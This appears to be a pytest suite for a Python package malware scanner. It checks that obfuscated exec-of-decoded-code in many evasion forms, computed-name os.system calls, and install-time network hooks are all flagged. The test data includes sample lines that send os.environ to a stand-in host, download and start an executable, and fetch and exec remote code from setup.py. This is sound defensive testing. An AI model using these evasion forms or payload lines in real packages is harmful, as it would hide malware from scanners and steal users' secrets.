"""Ways to hide from scanners that look at text: each must give the same finding as the plain form."""

from __future__ import annotations

import base64
import codecs
import io
import warnings
import zipfile
import zlib

import pytest

from support.scan import finding_of, rules_of, scan_import, scan_sdist, scan_wheel, the_ruleset
from wheelmark.scan import Context, ScanBounds, Severity, Verdict, scan_stream
from wheelmark.scan.samples import WHEEL_NAME

SAID = base64.b64encode(b"print('imitation')").decode()
DECODED = "decoded-code-executed"

FORMS = {
    "plain": f"import base64\nexec(base64.b64decode('{SAID}'))",
    "quote bait in a comment": f"# '''\nimport base64\nexec(base64.b64decode('{SAID}'))",
    "odd number of triple quotes above": f"NOTE = \"'''\"\nimport base64\nexec(base64.b64decode('{SAID}'))",
    "aliased function": f"from base64 import b64decode as d\nexec(d('{SAID}'))",
    "aliased module": f"import base64 as json\nexec(json.b64decode('{SAID}'))",
    "aliased exec": f"import base64\nrun = exec\nrun(base64.b64decode('{SAID}'))",
    "exec by getattr": f"import base64, builtins\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode('{SAID}'))",
    "exec out of a namespace": f"import base64\n__builtins__.__dict__['\\x65xec'](base64.b64decode('{SAID}'))",
    "decoder by getattr": f"exec(getattr(__import__('base64'), 'b64' + 'decode')('{SAID}'))",
    "compiled first": f"import base64\nexec(compile(base64.b64decode('{SAID}'), '<string>', 'exec'))",
    "text in pieces": f"import base64\nparts = ['{SAID[:8]}', '{SAID[8:]}']\nexec(base64.b64decode(''.join(parts)))",
    "text reversed": f"import base64\nexec(base64.b64decode('{SAID[::-1]}'[::-1]))",
    "in a helper": f"import base64\ndef show(text):\n    exec(base64.b64decode(text))\nshow('{SAID}')",
    "in a lambda": f"import base64\n(lambda run, text: run(base64.b64decode(text)))(exec, '{SAID}')",
    "in a method": f"import base64\nclass A:\n    def __init__(self):\n        exec(base64.b64decode('{SAID}'))\nA()",
    "in a thread": "import base64, threading\ndef f():\n"
    f"    exec(base64.b64decode('{SAID}'))\nthreading.Thread(target=f).start()",
    "through a variable": f"import base64\nx = ''\nif True:\n    x = base64.b64decode('{SAID}')\nexec(x)",
    "compressed": f"import zlib\nexec(zlib.decompress({zlib.compress(b'print(1)')!r}))",
    "rot13": f"import codecs\nexec(codecs.decode({codecs.encode('print(1)', 'rot13')!r}, 'rot13'))",
    "hexadecimal": f"exec(bytes.fromhex('{b'print(1)'.hex()}'))",
    "star import": f"from base64 import *\nexec(b64decode('{SAID}'))",
    "executed text decodes": f"exec(\"import base64\\nexec(base64.b64decode('{SAID}'))\")",
    "Python 2 statement": f"import base64\nprint 'hello'\nexec base64.b64decode('{SAID}')",
    "broken elsewhere": f"import base64\nexec(base64.b64decode('{SAID}'))\ndef broken(:\n    pass",
    "NUL byte": f"import base64\nx = 1\0\nexec(base64.b64decode('{SAID}'))",
}


@pytest.mark.parametrize("source", FORMS.values(), ids=FORMS.keys())
def test_decoded_code_is_found_in_every_form(source: str) -> None:
    report = scan_import(source)
    assert finding_of(report, DECODED).severity is Severity.CRITICAL
    assert report.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "source",
    [
        "import os\ngetattr(os, 'sys' + 'tem')('echo imitation')",
        "getattr(__import__('o' + 's'), 'system')('echo imitation')",
        "import sys\nimport os\ngetattr(sys.modules['os'], ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('echo')",
        "import os\nvars(os)['sys' 'tem']('echo imitation')",
        "import os\nos.__dict__['metsys'[::-1]]('echo imitation')",
        "import operator, os\noperator.attrgetter('sys' + 'tem')(os)('echo imitation')",
        "import operator, os\noperator.methodcaller('sys' + 'tem', 'echo imitation')(os)",
    ],
)
def test_process_under_computed_name_is_found(source: str) -> None:
    assert "hidden-call" in rules_of(scan_import(source))


def test_code_in_data_file_is_read_and_judged_itself() -> None:
    report = scan_wheel(
        {
            "widget/__init__.py": "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'data.txt')).read())",
            "widget/data.txt": "import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))",
        }
    )
    assert {"data-file-executed", "secrets-sent"} <= rules_of(report)
    assert report.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "start",
    ["subprocess.run(['tool.exe'])", "subprocess.Popen('start tool.exe', shell=True)", "os.startfile('tool.exe')"],
)
def test_download_and_start_are_paired_in_any_module(start: str) -> None:
    source = (
        "import os, subprocess, requests\n"
        "with open('tool.exe', 'wb') as file:\n"
        "    file.write(requests.get('https://files.example.invalid/tool').content)\n"
        f"{start}\n"
    )
    finding = finding_of(scan_import(source), "dropped-file-run")
    assert (finding.severity, finding.line, finding.context) == (Severity.CRITICAL, 4, Context.IMPORT)


def test_payload_in_submodule_that_import_reaches_counts_as_import() -> None:
    report = scan_wheel(
        {
            "widget/__init__.py": "from .inner.tools import start\nstart()",
            "widget/inner/__init__.py": "",
            "widget/inner/tools.py": f"import base64\ndef start():\n    exec(base64.b64decode('{SAID}'))",
        }
    )
    finding = finding_of(report, DECODED)
    assert (finding.member, finding.context, finding.severity) == (
        "widget/inner/tools.py",
        Context.IMPORT,
        Severity.CRITICAL,
    )


def test_payload_in_folder_of_tests_counts_when_something_imports_it() -> None:
    payload = f"import base64\nexec(base64.b64decode('{SAID}'))"
    left_alone = {"widget/__init__.py": "", "widget/tests/__init__.py": "", "widget/tests/tools.py": payload}
    assert scan_wheel(left_alone).verdict is Verdict.BENIGN
    reached = {**left_alone, "widget/__init__.py": "from widget.tests import tools"}
    assert scan_wheel(reached).verdict is Verdict.MALICIOUS
    on_call = {**left_alone, "widget/__init__.py": "def main():\n    from widget.tests import tools"}
    assert finding_of(scan_wheel(on_call), DECODED).context is Context.ON_CALL


def test_distribution_that_is_nothing_but_tests_is_scanned_as_code() -> None:
    report = scan_wheel({"tests/__init__.py": f"import base64\nexec(base64.b64decode('{SAID}'))"})
    assert report.verdict is Verdict.MALICIOUS


def test_module_imported_by_setup_script_counts_as_install() -> None:
    report = scan_sdist(
        {
            "setup.py": "from setuptools import setup\nimport build_tools\nsetup(name='sample')",
            "build_tools.py": "import urllib.request\nurllib.request.urlopen('https://count.example.invalid/')",
        }
    )
    assert finding_of(report, "install-network").context is Context.INSTALL


def test_two_hundred_benign_files_do_not_lower_the_verdict() -> None:
    members = {f"widget/module_{number}.py": f"VALUE = {number}\n" for number in range(200)}
    report = scan_wheel({**members, "widget/__init__.py": FORMS["plain"]})
    assert report.verdict is Verdict.MALICIOUS


def test_same_member_twice_is_scanned_twice() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about what this test is for
        archive.writestr("widget/__init__.py", FORMS["plain"])
        archive.writestr("widget/__init__.py", "VERSION = 1")
    report = scan_stream(stream, filename=WHEEL_NAME, ruleset=the_ruleset(), bounds=ScanBounds())
    assert report.verdict is Verdict.MALICIOUS


def test_program_that_is_written_out_and_started_is_read() -> None:
    report = scan_sdist(
        {
            "setup.py": (
                "import os, tempfile\nfrom setuptools import setup\n"
                "file = tempfile.NamedTemporaryFile(delete=False)\n"
                "file.write(b\"from urllib.request import urlopen as u;exec(u('https://x.example.invalid').read())\")\n"
                "os.system(f'start pythonw {file.name}')\nsetup(name='widget')\n"
            )
        }
    )
    finding = finding_of(report, "response-executed")
    assert (finding.context, finding.severity, finding.line) == (Context.INSTALL, Severity.CRITICAL, 4)


def test_script_that_setup_starts_counts_as_install() -> None:
    report = scan_sdist(
        {
            "setup.py": "import subprocess, sys\nsubprocess.call([sys.executable, 'after.py'])",
            "after.py": "import urllib.request\nurllib.request.urlopen('https://x.example.invalid')",
        }
    )
    assert finding_of(report, "install-network").member == "widget-1/after.py"
